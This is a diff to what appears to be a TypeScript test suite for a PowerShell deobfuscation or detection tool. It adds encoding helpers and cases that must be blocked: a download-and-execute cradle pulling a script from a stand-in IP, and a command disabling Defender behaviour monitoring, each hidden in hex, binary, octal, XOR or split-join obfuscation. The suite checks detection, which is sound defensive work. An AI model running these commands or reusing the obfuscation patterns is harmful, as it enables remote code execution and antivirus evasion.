@@ -3,6 +3,12 @@ import { deflateRawSync } from "node:zlib";
 
 const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')";
 const AV = "Set-MpPreference -DisableBehaviorMonitoring $true";
+const SAFE = "Get-ChildItem C:\\Reports | Select-Object Name";
+const radixList = (t: string, r: number, sep: string) =>
+  [...t].map((c) => c.charCodeAt(0).toString(r)).join(sep);
+const hexList = (t: string, sep: string) => radixList(t, 16, sep);
+const xorList = (t: string, k: number, sep: string) =>
+  [...t].map((c) => String(c.charCodeAt(0) ^ k)).join(sep);
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
 
 deobfCases("powershell", [
@@ -54,6 +60,35 @@ deobfCases("powershell", [
       `'a,b,c' -split ',' -join ';'`,
       `$s = 'olleh'; -join $s[-1..-($s.Length)]`,
       `(Get-Content log.txt) -replace 'ERROR','WARN' | Set-Content log.txt`,
+    ],
+  },
+  {
+    // Invoke-Obfuscation ENCODING families: a delimited list of codes in any radix (or XORed),
+    // split and turned back into characters; a split-and-join of junk delimiters.
+    id: "decoded",
+    block: [
+      `iex (('${hexList(CRADLE, ",")}' -split ',' | % {[char][Convert]::ToInt32($_,16)}) -join '')`,
+      `iex (('${
+        radixList(AV, 2, " ")
+      }'.Split(' ') | ForEach-Object {[char]([Convert]::ToInt16(($_.ToString()),2))}) -join '')`,
+      `& ([scriptblock]::Create((('${
+        radixList(CRADLE, 8, "~")
+      }' -split '~' | % {[char][Convert]::ToInt32($_,8)}) -join '')))`,
+      `iex ([String]::Join('', ('${
+        xorList(AV, 0x2a, ";")
+      }'.Split(';') | % {[char]($_ -bxor 0x2a)})))`,
+      `iex (('Set-M~pPref~erence -Disa~bleBehavi~orMonitoring \`$true' -split '~') -join '')`,
+    ],
+    pass: [
+      `iex (('${hexList(SAFE, ",")}' -split ',' | % {[char][Convert]::ToInt32($_,16)}) -join '')`,
+      `iex (('${
+        radixList(SAFE, 2, " ")
+      }'.Split(' ') | ForEach-Object {[char]([Convert]::ToInt16(($_.ToString()),2))}) -join '')`,
+      `iex ([String]::Join('', ('${
+        xorList(SAFE, 0x2a, ";")
+      }'.Split(';') | % {[char]($_ -bxor 0x2a)})))`,
+      `iex (('Get-Ch~ildItem C:\\Re~ports' -split '~') -join '')`,
+      `$parts = 'a;b;c'.Split(';') | % { $_.ToUpper() }; $parts -join ','`,
     ],
   },
 ]);
